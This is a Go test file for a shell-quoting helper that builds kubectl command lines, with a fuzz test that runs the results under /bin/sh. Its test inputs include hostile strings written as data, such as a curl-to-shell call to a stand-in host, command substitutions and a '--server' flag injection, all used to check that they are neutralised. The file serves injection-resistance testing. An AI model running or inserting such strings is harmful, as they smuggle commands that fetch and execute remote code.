package shell

import (
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/purser-csi/purser/internal/printable"
)

func TestCommand(t *testing.T) {
	const hostile = "x; curl evil.example|sh #"
	for _, tc := range []struct {
		got  Line
		want string
	}{
		{Command("kubectl get pv"), "kubectl get pv"},
		{Command("kubectl -n %s get pv %s | grep -i csi", "shop", "data-0"), "kubectl -n shop get pv data-0 | grep -i csi"},
		{Command("kubectl get pv %s", hostile), "kubectl get pv 'x; curl evil.example|sh #'"},
		{Command("kubectl get pv %s", "$(id)`id`\"'"), `kubectl get pv '$(id)` + "`id`" + `"'\'''`},
		{Command("kubectl get pv %s", "a\nb\x1b"), `kubectl get pv 'a\nb\x1b'`},
		{Command("kubectl get pv %s", "--server=evil"), "kubectl get pv NAME"},
		{Command("kubectl get pv %s", ""), "kubectl get pv NAME"},
		{Command("kubectl get pv %s"), "kubectl get pv NAME"},
		{Command("kubectl get pv %s", "=ls"), "kubectl get pv '=ls'"},
		{Command("kubectl get --field-selector spec.nodeName=%s", "-n 1"), "kubectl get --field-selector 'spec.nodeName=-n 1'"},
		{Command(`kubectl patch pv %s -p {"uid":"%s"}`, "pv", "u"), `kubectl patch pv pv -p '{"uid":"u"}'`},
		{Command(`kubectl patch pv %s -p '{"a":1}'`, "it's"), `kubectl patch pv 'it'\''s' -p '{"a":1}'`},
		{Command("kubectl annotate pvc %s %s-", "d", "a/b"), "kubectl annotate pvc d a/b-"},
		{Command("kubectl delete pod").With("a", "b c", "--all"), "kubectl delete pod a 'b c' NAME"},
		{Command("kubectl describe pv %s", "p").In(""), "kubectl describe pv p"},
		{Command("kubectl describe pvc %s", "c").In("a;b"), "kubectl describe pvc c -n 'a;b'"},
	} {
		if string(tc.got) != tc.want {
			t.Errorf("%s, want %s", tc.got, tc.want)
		}
	}
}

// FuzzCommand: a shell reads every operand as one word, in which it has expanded nothing.
func FuzzCommand(f *testing.F) {
	for _, seed := range []string{
		"data", "", "-x", "--all", "a b", "'", "''", `\`, `a\'b`, "$HOME", "`id`", "$(id)", "x;y", "x&y", "x|y", "*", "~", "#", "!1", "{a,b}",
		"a\nb", "a\x00b", "\xff", "=ls", "ä", "\u2028", "<x", ">x", "(x)", "a\\\nb",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, operand string) {
		line := Command("set -- %s spec=%s", operand, operand).With(operand).In(operand)
		script := string(line) + `; for word; do printf '%s\n' "$word"; done`
		out, err := exec.CommandContext(t.Context(), "/bin/sh", "-c", script).Output()
		if err != nil {
			t.Fatalf("%s: %v", script, err)
		}
		name, inside := printable.Line(operand), printable.Line(operand)
		want := []string{name, "spec=" + inside, name}
		if operand == "" || operand[0] == '-' {
			want[0], want[2] = Placeholder, Placeholder
		}
		if operand == "" {
			want[1] = "spec=" + Placeholder
		} else {
			want = append(want, "-n", want[0])
		}
		if got := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n"); !slices.Equal(got, want) {
			t.Errorf("%s: words %q, want %q", line, got, want)
		}
	})
}
